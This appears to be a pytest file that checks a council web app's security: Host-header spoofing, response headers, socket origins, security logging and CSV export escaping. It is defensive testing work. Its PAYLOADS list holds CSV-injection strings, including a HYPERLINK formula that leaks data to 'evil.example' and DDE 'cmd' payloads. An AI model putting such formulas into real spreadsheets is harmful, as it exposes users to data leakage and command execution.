"""What a council's security assessor checks across the whole site: one canonical address
(forged `Host` and `X-Forwarded-Host` refused, links in emails and feeds from PB_BASE_URL),
the headers of every kind of response, CSV cells that never run as formulas, and security
events logged as structured lines. docs/security.md names the ASVS requirement each covers."""

from __future__ import annotations

import csv
import io
import json
import logging
from collections.abc import Iterator
from datetime import UTC, datetime, timedelta
from typing import Any

import pytest
import sqlalchemy as sa
from flask import Flask

from pb import create_app
from pb.extensions import db, limiter
from pb.models import OutboxMessage
from pb.services import outcomes, pabulib_io
from pb.services.council import councils
from pb.services.council import recruitment as rec
from tests.conftest import PASSWORD, Client, make_config
from tests.shared_data import shared_data

BASE = "https://pb.example.org"
# OWASP's CSV injection examples, and the other characters a spreadsheet starts formulas with.
PAYLOADS = ('=HYPERLINK("http://evil.example/?leak="&A1,"click")', "=cmd|' /C calc'!A0",
            "+1+1", "-2+3", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1",
            "a;=1+1", 'quote " and =1+1')
QUOTAS = "feature,category,min,max\nAge,Under 40,1,2\nAge,40 and over,1,2\n"


@pytest.fixture()
def site(database_uri: str) -> Iterator[Flask]:
    """The app as production configures it: PB_BASE_URL set, behind one proxy."""
    app = create_app(make_config(database_uri, PB_BASE_URL=BASE, PB_TRUSTED_PROXIES=1))
    app.test_client_class = Client
    with app.app_context():
        limiter.reset()
        yield app
        db.session.remove()
        db.engine.dispose()


def outbox() -> list[OutboxMessage]:
    return list(db.session.scalars(sa.select(OutboxMessage).order_by(OutboxMessage.id)))


def emailing_forms(site: Flask) -> dict[str, dict[str, str]]:
    """Every public form that emails a link, with what a resident would send it."""
    officer = rec_officer()
    council = councils.do_create_council(officer, councils.CouncilData("Town Council"))
    recruitment = rec.do_open(officer, council, rec.RecruitmentData(
        title="Town council 2027", seats=2, closes_at=datetime.now(UTC) + timedelta(days=9),
        term_start=(datetime.now(UTC) + timedelta(days=30)).date(), term_end=None,
        seed_source="Five numbers drawn from a bag at the council meeting.",
        quotas=QUOTAS, panel_count=10))
    return {"/account/forgot": {"email": "resident@example.org"},
            f"/councils/recruitments/{recruitment.id}/volunteer": {
                "name": "Nia Jones", "email": "nia@example.org", "phone": "",
                "feature_0": "Under 40", "consent": "y"}}


def forms_recruitment_id(forms: dict[str, dict[str, str]]) -> int:
    return next(int(url.split("/")[3]) for url in forms if url.startswith("/councils/"))


def rec_officer() -> Any:
    from pb.services import accounts

    return accounts.do_register("officer@example.org", "Olu Officer", PASSWORD,
                                extra_roles=("officer",))


def test_a_forged_host_gets_400_and_no_email(site: Flask, caplog: Any) -> None:
    from pb.services import accounts

    accounts.do_register("resident@example.org", "Rhys Resident", PASSWORD)
    client = site.test_client()
    forms = emailing_forms(site)
    rid = forms_recruitment_id(forms)
    # The officers' forms that email volunteers (the draw's invitations, a replacement's) and
    # a volunteer's answer (the welcome) are refused the same way, before anything else.
    officers = {f"/councils/recruitments/{rid}/seed": {"seed": "12 7 33"},
                f"/councils/recruitments/{rid}/volunteers/1/left": {"reason": "moved away"},
                "/councils/invitation/some-key/answer": {"answer": "accept"}}
    caplog.set_level(logging.INFO, logger="pb.security")
    for url, data in {**forms, **officers}.items():
        for headers in ({"Host": "attacker.example"},
                        {"X-Forwarded-Host": "attacker.example"},   # one trusted proxy
                        {"Host": "pb.example.org.attacker.example"}):
            before = len(outbox())
            refused = client.post(url, data=data, headers=headers)
            assert refused.status_code == 400, (url, headers)
            assert "This site answers only at its own address" in refused.get_data(as_text=True)
            assert len(outbox()) == before, (url, headers)
    logged = [json.loads(r.getMessage()) for r in caplog.records if r.name == "pb.security"]
    assert [e["host"] for e in logged if e["event"] == "host.refused"][:2] == [
        "attacker.example", "attacker.example"]
    # Sent through the loopback name a health check uses, every link is still the site's.
    for url, data in forms.items():
        assert client.post(url, data=data, headers={"Host": "localhost"}).status_code == 302
    sent = outbox()
    assert len(sent) == 2
    for mail in sent:
        links = [w for w in mail.body.split() if "://" in w]
        assert links and all(link.startswith(BASE + "/") for link in links), mail.body


def test_forwarded_host_is_ignored_without_a_trusted_proxy(database_uri: str) -> None:
    app = create_app(make_config(database_uri, PB_BASE_URL=BASE))
    with app.app_context():
        feed = app.test_client().get("/records/feed.atom",
                                     headers={"X-Forwarded-Host": "attacker.example"})
        assert feed.status_code == 200
        body = feed.get_data(as_text=True)
        assert f"{BASE}/records/feed.atom" in body and "attacker.example" not in body


def test_feed_and_qr_links_come_from_the_base_url(site: Flask) -> None:
    feed = site.test_client().get("/records/feed.atom", headers={"Host": "127.0.0.1:8001"})
    assert f"{BASE}/records/feed.atom" in feed.get_data(as_text=True)


def test_sockets_accept_only_the_sites_origin(site: Flask) -> None:
    from pb.extensions import socketio

    # The test client skips Engine.IO's origin check, so ask the server what it allows, the way
    # its handshake does; tests/test_nginx.py connects a real client through the proxy.
    assert socketio.server.eio._cors_allowed_origins({"HTTP_ORIGIN": BASE}) == [BASE]
    assert socketio.server.eio._cors_allowed_origins({}) == [BASE]


def test_a_login_without_an_origin_cannot_open_a_socket(app: Flask, client: Any,
                                                         make_user: Any, login: Any) -> None:
    from flask import g

    from pb.extensions import socketio

    def connected(namespace: str, **options: Any) -> bool:
        g.pop("_login_user", None)  # the tests' app context would keep the last one seen
        sock = socketio.test_client(app, namespace=namespace, **options)
        return sock.is_connected(namespace)

    login(make_user("officer"))
    for namespace in ("/", "/live"):
        assert not connected(namespace, flask_test_client=client)
        assert connected(namespace, flask_test_client=client, headers={"Origin": "http://pb.test"})
        assert connected(namespace)   # a screen or a script, no login: what the public sees


# Headers ---------------------------------------------------------------------------------------

def test_every_kind_of_response_carries_the_headers(site: Flask, caplog: Any) -> None:
    round_ = certified_round()
    client = site.test_client()
    paths = ["/", "/account/login", "/static/css/app.css", "/static/js/app.js",
             f"/rounds/{round_.id}/results", f"/rounds/{round_.id}/results.csv",
             f"/rounds/{round_.id}/results.json", f"/rounds/{round_.id}/ballots.pb",
             f"/rounds/{round_.id}/receipts.txt", "/councils/register.csv",
             "/councils/register.json", "/records/feed.atom", "/no/such/page"]
    for path in paths:
        response = client.get(path)
        headers = response.headers
        assert response.status_code in (200, 404), path
        assert headers["Content-Type"].count("charset") <= 1, (path, headers["Content-Type"])
        assert headers["X-Content-Type-Options"] == "nosniff", path
        assert "camera=()" in headers["Permissions-Policy"], path
        assert "microphone=()" in headers["Permissions-Policy"], path
        policy = headers["Content-Security-Policy"]
        assert "connect-src 'self' wss://pb.example.org;" in policy, path
        assert " ws: " not in policy and " wss: " not in policy, path
        assert "object-src 'none'" in policy and "base-uri 'none'" in policy, path
        assert headers["X-Frame-Options"] == "DENY", path
        assert "Server" not in headers or "/" not in headers["Server"], path


def test_hsts_max_age_is_a_year_in_production(database_uri: str) -> None:
    app = create_app(make_config(database_uri, PB_ENV="production", PB_BASE_URL=BASE,
                                 SECRET_KEY="s" * 64))
    with app.app_context():
        response = app.test_client().get("/healthz", base_url=BASE)
    assert response.headers["Strict-Transport-Security"] == "max-age=31536000; includeSubDomains"


def test_the_development_server_names_no_versions() -> None:
    from pb.serve import _QuietHandler

    assert _QuietHandler.version_string(_QuietHandler.__new__(_QuietHandler)) == "pb"


# CSV -------------------------------------------------------------------------------------------

def certified_round() -> Any:
    from pb.services import accounts

    source = (shared_data() / "pabulib" / "Netherlands_Assen_2024.pb").read_text()
    round_ = pabulib_io.do_import(source, None)
    officer = accounts.do_register("certifier@example.org", "Cai Certifier", PASSWORD,
                                   extra_roles=("officer",))
    outcomes.do_certify(officer, round_)
    return round_


def read_csv(response: Any) -> list[dict[str, str]]:
    body = response.get_data()
    assert body.startswith(b"\xef\xbb\xbf"), "no byte-order mark: Excel would garble £ and ’"
    return list(csv.DictReader(io.StringIO(body.decode("utf-8-sig"))))


def assert_no_formulas(rows: list[dict[str, str]]) -> None:
    for row in rows:
        for cell in row.values():
            assert not (cell or "").startswith(("=", "+", "-", "@", "\t", "\r")), cell


def test_every_payload_stays_text_in_the_results_csv(client: Any) -> None:
    from pb.services import counting

    round_ = certified_round()
    proposals = counting.ballot_proposals(round_)
    for proposal, payload in zip(proposals, PAYLOADS, strict=False):
        proposal.title = payload + " £ ’"
    db.session.commit()
    rows = read_csv(client.get(f"/rounds/{round_.id}/results.csv"))
    assert_no_formulas(rows)
    titles = {row["title"] for row in rows}
    for payload in PAYLOADS[:len(proposals)]:
        expected = payload + " £ ’"
        assert (expected if expected[0] not in "=+-@\t\r" else "'" + expected) in titles


def test_every_payload_stays_text_in_the_register_csv(client: Any, make_user: Any) -> None:
    from tests.factories import make_setup, publish

    setup = make_setup(make_user)
    publish(setup, texts=PAYLOADS[:3])
    rows = read_csv(client.get(f"/councils/register.csv?council={setup.council.id}"))
    assert len(rows) == 3
    assert_no_formulas(rows)
    assert {row["recommendation"] for row in rows} == {"'" + p for p in PAYLOADS[:3]}


def test_signed_in_pages_are_kept_by_no_cache(client: Any, make_user: Any, login: Any) -> None:
    assert "no-store" not in client.get("/rounds/").headers.get("Cache-Control", "")
    login(make_user("officer"))
    assert client.get("/rounds/").headers["Cache-Control"] == "no-store"
    assert "immutable" not in client.get("/static/css/app.css").headers["Cache-Control"]


def test_secure_cookies_take_the_host_prefix(database_uri: str) -> None:
    from pb.config import load

    secure = load("/nonexistent", environ={"PB_ENV": "production", "SECRET_KEY": "s" * 64,
                                           "PB_BASE_URL": BASE})
    assert secure["SESSION_COOKIE_NAME"] == "__Host-session"
    assert secure["REMEMBER_COOKIE_NAME"] == "__Host-remember_token"
    plain = load("/nonexistent", environ={"PB_ENV": "production", "SECRET_KEY": "s" * 64,
                                          "PB_BASE_URL": BASE, "PB_SECURE_COOKIES": "0"})
    assert plain["SESSION_COOKIE_NAME"] == "session" and "REMEMBER_COOKIE_NAME" not in plain


def test_refusals_certifications_and_backups_are_security_events(
        client: Any, make_user: Any, login: Any, caplog: Any, tmp_path: Any) -> None:
    from pb.services import backup

    caplog.set_level(logging.INFO, logger="pb.security")
    resident = login(make_user())
    assert client.get("/admin/users").status_code == 403
    round_ = certified_round()
    backup.do_backup(tmp_path / "pb.backup")
    events = [json.loads(r.getMessage()) for r in caplog.records if r.name == "pb.security"]
    refused = next(e for e in events if e["event"] == "access.refused")
    assert refused["account"] == resident.id and refused["method"] == "GET"
    certified = next(e for e in events if e["event"] == "results.certified")
    assert certified["round"] == round_.id and isinstance(certified["account"], int)
    assert any(e["event"] == "data.exported" and e["what"] == "backup" for e in events)
    # One JSON object per line, in UTC, with nothing personal but the account's id.
    for line in (r.getMessage() for r in caplog.records if r.name == "pb.security"):
        assert "\n" not in line and "@" not in line and PASSWORD not in line
        assert json.loads(line)["at"].endswith("+00:00")


def test_staff_who_must_enrol_cannot_open_a_socket(app: Flask, client: Any, make_user: Any,
                                                   login: Any) -> None:
    from flask import g

    from pb.extensions import socketio
    from tests.factories import BROWSER, enrolled

    app.config["PB_REQUIRE_TWO_FACTOR"] = True

    def connected(namespace: str) -> bool:
        g.pop("_login_user", None)
        return socketio.test_client(app, namespace=namespace, flask_test_client=client,
                                    headers=BROWSER).is_connected(namespace)

    officer = login(make_user("officer"))
    assert not connected("/") and not connected("/live")
    enrolled(officer)
    login(officer)   # enrolling renewed the session generation
    assert connected("/") and connected("/live")
    login(make_user())   # residents are never asked
    assert connected("/live")


def test_trace_is_not_allowed(client: Any) -> None:
    assert client.open("/", method="TRACE").status_code == 405


def test_a_password_reset_still_asks_for_the_second_factor(client: Any, make_user: Any) -> None:
    from pb.models import RecoveryCode
    from pb.services import accounts
    from tests.factories import enrolled

    user = make_user(email="kim@example.org")
    codes = enrolled(user)
    stored = {row.code_hash for row in db.session.scalars(sa.select(RecoveryCode))}
    assert len(stored) == 10 and not stored & set(codes)   # kept hashed, never as shown
    accounts.do_reset_password(user, "a brand new passphrase")
    answer = client.post("/account/login", data={"email": "kim@example.org",
                                                 "password": "a brand new passphrase"})
    assert answer.status_code == 302 and "/account/login/code" in answer.headers["Location"]
    assert "Log out" not in client.get("/").get_data(as_text=True)
